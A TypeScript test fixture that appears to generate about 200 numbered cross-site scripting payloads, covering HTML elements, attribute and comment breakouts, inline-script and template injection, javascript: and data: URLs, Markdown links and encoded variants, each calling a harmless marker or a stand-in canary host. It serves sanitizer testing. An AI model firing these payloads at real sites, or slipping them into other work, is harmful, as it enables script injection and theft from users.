/**
 * Two hundred ways in which words of a person have become a script of a page: markup, attributes that are broken out of,
 * addresses, Markdown, what is embedded in a page's own scripts, and encodings. Each calls `ran` with its number, or
 * asks `canary.example` for something; § stands for the call.
 */
const WAYS: readonly string[] = [
  // elements
  `<script>§</script>`, `<SCRIPT>§</SCRIPT>`, `<script >§</script >`, `<script\n>§</script\n>`, `<script/x>§</script>`,
  `<script src=//canary.example/a.js></script>`, `<script src="data:text/javascript,§"></script>`, `<script type=module>§</script>`,
  `<scr<script>ipt>§</scr</script>ipt>`, `<<script>§//<</script>`, `<script>/*</script><script>*/§</script>`, `<script>§<!--`,
  `<img src=x onerror=§>`, `<img src=x onerror="§">`, `<img src='x' onerror='§'>`, `<IMG SRC=x OnErRoR=§>`, `<img/src=x/onerror=§>`,
  `<img src=x\tonerror\n=\r§>`, `<img src=x:x onerror=§//`, `<img """><script>§</script>">`, `<img src=//canary.example/i.png>`,
  `<img srcset="//canary.example/i.png 1x">`, `<image src=x onerror=§>`, `<picture><source srcset=x><img onerror=§></picture>`,
  `<svg onload=§>`, `<svg/onload=§>`, `<svg><script>§</script></svg>`, `<svg><script href="data:text/javascript,§" /></svg>`,
  `<svg><animate onbegin=§ attributeName=x dur=1s>`, `<svg><set attributeName=href to="javascript:§">`, `<svg><a xlink:href="javascript:§"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><body onload=§></foreignObject></svg>`, `<svg><style><img src=x onerror=§></style></svg>`, `<svg><title><img src=x onerror=§></title></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=§>#x"></svg>`, `<svg><desc><![CDATA[</desc><script>§</script>]]></svg>`,
  `<math><mi xlink:href="javascript:§">x</mi></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=§>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=§></annotation-xml></math>`,
  `<body onload=§>`, `<body onpageshow=§>`, `<body background=javascript:§>`, `<html onmouseover=§>`, `<frameset onload=§>`,
  `<iframe src="javascript:§"></iframe>`, `<iframe srcdoc="<script>parent.§</script>"></iframe>`, `<iframe srcdoc="&lt;img src=x onerror=parent.§&gt;">`, `<iframe onload=§>`,
  `<iframe src="data:text/html,<script>parent.§</script>">`, `<iframe src=//canary.example/f>`, `<object data="javascript:§">`, `<object data="data:text/html,<script>§</script>">`,
  `<object onerror=§ data=x>`, `<embed src="javascript:§">`, `<embed src="data:image/svg+xml,<svg onload=§>">`, `<applet code=x onerror=§>`,
  `<video src=x onerror=§>`, `<video><source onerror=§>`, `<video poster=javascript:§>`, `<audio src=x onerror=§>`, `<track default onerror=§>`,
  `<input autofocus onfocus=§>`, `<input type=image src=x onerror=§>`, `<select autofocus onfocus=§>`, `<textarea autofocus onfocus=§>`, `<keygen autofocus onfocus=§>`,
  `<button autofocus onfocus=§>x</button>`, `<a autofocus tabindex=1 onfocus=§>x</a>`, `<details open ontoggle=§>`, `<details ontoggle=§ open><summary>x`, `<marquee onstart=§>x</marquee>`,
  `<div onpointerrawupdate=§ style="position:fixed;inset:0">x</div>`, `<div style="animation:x 1s" onanimationstart=§>`, `<style>@keyframes x{}</style><b style="animation-name:x" onanimationend=§>x</b>`,
  `<form action="javascript:§"><input type=submit></form>`, `<form><button formaction="javascript:§">x</button></form>`, `<isindex type=image src=x onerror=§>`,
  `<form id=x></form><button form=x formaction="javascript:§">x</button>`, `<form action=//canary.example/f><input name=a value=b>`,
  `<base href="//canary.example/">`, `<link rel=stylesheet href=//canary.example/s.css>`, `<link rel=import href="data:text/html,<script>§</script>">`, `<link rel=preload as=script href=//canary.example/p.js>`,
  `<meta http-equiv=refresh content="0;url=javascript:§">`, `<meta http-equiv=refresh content="0;url=//canary.example/r">`, `<meta charset=utf-7>`,
  `<style>@import '//canary.example/s.css';</style>`, `<style>*{background:url(//canary.example/b)}</style>`, `<div style="background:url(//canary.example/b)">x</div>`,
  `<div style="width:expression(§)">x</div>`, `<xss style="behavior:url(//canary.example/x.htc)">`, `<template><script>§</script></template>`, `<noscript><img src=x onerror=§></noscript>`,
  `<table background="javascript:§">`, `<td background="//canary.example/b">`, `<bgsound src="javascript:§">`, `<layer src=//canary.example/l>`, `<dialog open onfocus=§ autofocus tabindex=0>x</dialog>`,
  `<custom-tag onmouseenter=§ style="position:fixed;inset:0">x</custom-tag>`, `<portal src=//canary.example/p>`, `<fencedframe src=//canary.example/f>`,
  // out of an attribute, a comment or another element
  `"><script>§</script>`, `'><script>§</script>`, `"><img src=x onerror=§>`, `'><img src=x onerror=§>`, `"><svg onload=§>`, `'><svg onload=§>`, `\`><img src=x onerror=§>`,
  `" onmouseover="§`, `' onmouseover='§`, `" autofocus onfocus="§`, `' autofocus onfocus='§`, `x onerror=§ y`, `" style="animation:x" onanimationstart="§`, `" accesskey=x onclick="§`,
  `--><script>§</script>`, `--!><img src=x onerror=§>`, `]]><script>§</script>`, `</title><script>§</script>`, `</textarea><script>§</script>`, `</style><script>§</script>`,
  `</noscript><script>§</script>`, `</option></select><img src=x onerror=§>`, `</template><script>§</script>`, `</iframe><script>§</script>`, `</xmp><script>§</script>`, `</plaintext><script>§</script>`,
  // out of what a page's own scripts carry
  `</script><script>§</script>`, `</ScRiPt ><script>§</script>`, `</script\n><img src=x onerror=§>`, `<!--<script>§</script>`, `';§;//`, `";§;//`, `\\";§;//`, `\\';§;//`, `\`;§;//`, `\${§}`, `\\u0022;§;//`,
  `");§;//`, `');§;//`, `"]);§;//`, `"-§-"`, `'-§-'`, `\u2028§\u2029`, `\\x3cscript\\x3e§\\x3c/script\\x3e`, `{"__html":"<img src=x onerror=§>"}`, `["$","script",null,{"children":"§"}]`, `$L1`, `1:["$","img",null,{"src":"x","onerror":"§"}]`,
  `{{constructor.constructor('§')()}}`, `{{$on.constructor('§')()}}`, `<%= § %>`, `#{§}`, `[[\${§}]]`, `@(§)`,
  // addresses
  `javascript:§`, `JaVaScRiPt:§`, ` javascript:§`, `java\tscript:§`, `java\nscript:§`, `javascript://%0a§`, `javascript:/*--></title></style></textarea></script><svg onload=§>*/§`, `javascript&colon;§`, `&#106;avascript:§`,
  `data:text/html,<script>§</script>`, `data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=`, `vbscript:§`, `//canary.example/x`, `\\\\canary.example\\x`,
  // Markdown
  `[x](javascript:§)`, `[x](JaVaScRiPt:§)`, `[x](java\tscript:§)`, `[x](javascript&colon;§)`, `[x](&#106;avascript:§)`, `[x](data:text/html,<script>§</script>)`, `[x](vbscript:§)`, `[x]( javascript:§)`,
  `[x](<javascript:§>)`, `<javascript:§>`, `![x](javascript:§)`, `![x](//canary.example/i.png)`, `![x](x"onerror="§)`, `[x](x "onmouseover=§")`, `[x](x" onmouseover="§)`, `[x]: javascript:§\n\n[x]`, `[![x](x)](javascript:§)`,
  `**<img src=x onerror=§>**`, `- <svg onload=§>`, `> <script>§</script>`, `\`\`\`html\n<img src=x onerror=§>\n\`\`\``, `# <img src=x onerror=§>`, `<details open ontoggle=§>\n\n*x*\n\n</details>`,
]; // prettier-ignore

/** Encodings of some of them that a browser or a library may undo once too often. */
const ENCODED: readonly ((text: string) => string)[] = [
  (text) => text.replace(/[<>"'&]/g, (each) => `&#${each.charCodeAt(0)};`),
  (text) => text.replace(/[<>"']/g, (each) => `&#x${each.charCodeAt(0).toString(16)}`),
  (text) => encodeURIComponent(text),
  (text) => text.replace(/</g, "\uff1c").replace(/>/g, "\uff1e"),
  (text) => text.replace(/</g, "&lt;").replace(/>/g, "&gt;"),
];

const MANY = 200;

/** The payloads, each with its own number in it. */
export const PAYLOADS: readonly string[] = [
  ...WAYS.map((way) => ({ way, encoded: (text: string) => text })),
  ...[`<script>§</script>`, `<img src=x onerror=§>`].flatMap((way) =>
    ENCODED.map((encoded) => ({ way, encoded })),
  ),
]
  .slice(0, MANY)
  .map(({ way, encoded }, number) =>
    encoded(way.replaceAll("§", `ran(${number})`).replaceAll("canary.example", `c${number}.canary.example`)),
  );
